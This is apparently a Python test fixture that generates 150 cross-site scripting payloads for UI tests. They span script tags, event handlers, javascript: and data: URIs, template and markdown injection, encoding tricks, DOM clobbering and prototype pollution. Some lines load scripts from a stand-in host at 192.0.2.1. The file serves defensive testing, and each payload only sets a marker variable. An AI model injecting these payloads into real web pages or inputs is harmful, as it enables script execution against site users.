"""150 strings that try to run as code, each in a way of its own: tags, handlers, schemes, broken markup, templates.

`window.hit` is set by any that does. Written for this project after the kinds that the OWASP cheat sheets list.
"""

from __future__ import annotations

from tests.ui.hostile import HOSTILE

RUN = "window.hit='xss'"
_HANDLERS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerenter onpointerover onwheel onscroll "
    "oncopy oncut onpaste ontoggle onbeforetoggle onanimationstart onanimationend ontransitionend ontransitionrun "
    "onhashchange onpageshow onresize onstart onbegin onend onfinish onbounce oncanplay onplay oncuechange "
    "onloadstart onprogress"
).split()
_TAGS = (
    "script img svg video audio body iframe object embed details marquee input select textarea button a form math "
    "style dialog template slot portal frameset isindex keygen noscript xmp plaintext listing"
).split()
_ODD = (
    f"<script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script>{RUN}//",
    f"<<script>{RUN}//<</script>",
    f"<script src=data:,{RUN}></script>",
    "<script src=//192.0.2.1/x.js></script>",
    "<script>import('//192.0.2.1/x.js')</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>",
    f"<svg><set onbegin={RUN} attributeName=x></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
    f"<svg><foreignObject><img src onerror={RUN}></foreignObject></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src onerror={RUN}></annotation-xml></math>",
    f"<img src=x onerror={RUN}//",
    f"<img src onerror = {RUN} >",
    f"<img/src/onerror={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img src=x\x0conerror={RUN}>",
    f"<img src=`x` onerror={RUN}>",
    f'<img alt="`><img src onerror={RUN}>`">',
    f"<img srcset=x onerror={RUN}>",
    f"<picture><source srcset=x><img onerror={RUN} src=x></picture>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src onerror={RUN}></audio>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe src=//192.0.2.1/></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href='jav&#x09;ascript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href=vbscript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input type=image src onerror={RUN}>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<style>@import'//192.0.2.1/x.css';</style><b onclick={RUN}>",
    "<style>*{background:url(//192.0.2.1/x)}</style>",
    f"<div style=background:url(javascript:{RUN})>",
    f"<div style='animation:x 1s' onanimationstart={RUN}>",
    f"<noscript><p title='</noscript><img src onerror={RUN}>'>",
    f"<template><img src onerror={RUN}></template>",
    f"<template shadowrootmode=open><img src onerror={RUN}></template>",
    f"<title></title><img src onerror={RUN}></title>",
    f"</title></textarea></style></noscript></template><img src onerror={RUN}>",
    f"<textarea></textarea><img src onerror={RUN}>",
    f"<xmp></xmp><img src onerror={RUN}>",
    f"<!--><img src onerror={RUN}>-->",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<?xml-stylesheet href=javascript:{RUN}?>",
    f"--><img src onerror={RUN}>",
    f"]]><img src onerror={RUN}>",
    f"'-{RUN}-'",
    f'"-{RUN}-"',
    f"\\'-{RUN}//",
    f"</script><svg onload={RUN}>",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{{{{{{RUN}}}}}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"{{% {RUN} %}}",
    f"{{{{#each this}}}}<img src onerror={RUN}>{{{{/each}}}}",
    f"{{@html '<img src onerror={RUN}>'}}",
    f"[x](javascript:{RUN})",
    f"[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![x](data:text/html,<script>{RUN}</script>)",
    f"[x](data:text/html;base64,{RUN})",
    f"```html\n<img src onerror={RUN}>\n```",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<a id=server><a id=server name=element href=javascript:{RUN}>",
    "<form id=desk><input name=attributes><input name=children></form>",
    "<img name=getElementById><img name=querySelector>",
    "<base target=_blank href=//192.0.2.1/>",
    "<meta http-equiv=refresh content=0;url=//192.0.2.1/>",
    "<meta http-equiv=Content-Security-Policy content=script-src>",
    "<link rel=preload as=script href=//192.0.2.1/x.js>",
    "<link rel=dns-prefetch href=//192.0.2.1/>",
    '{"__type__":"update","value":"<img src onerror=window.hit=1>"}',
    '{"__proto__":{"innerHTML":"<img src onerror=window.hit=1>"}}',
)
_MADE = (
    *(f'<{tag} {_HANDLERS[at % len(_HANDLERS)]}="{RUN}" src=x>' for at, tag in enumerate(_TAGS)),
    *(f'" {name}="{RUN}" x="' for name in _HANDLERS),
)
XSS = tuple(dict.fromkeys((*_ODD, *_MADE, *HOSTILE)))[:150]
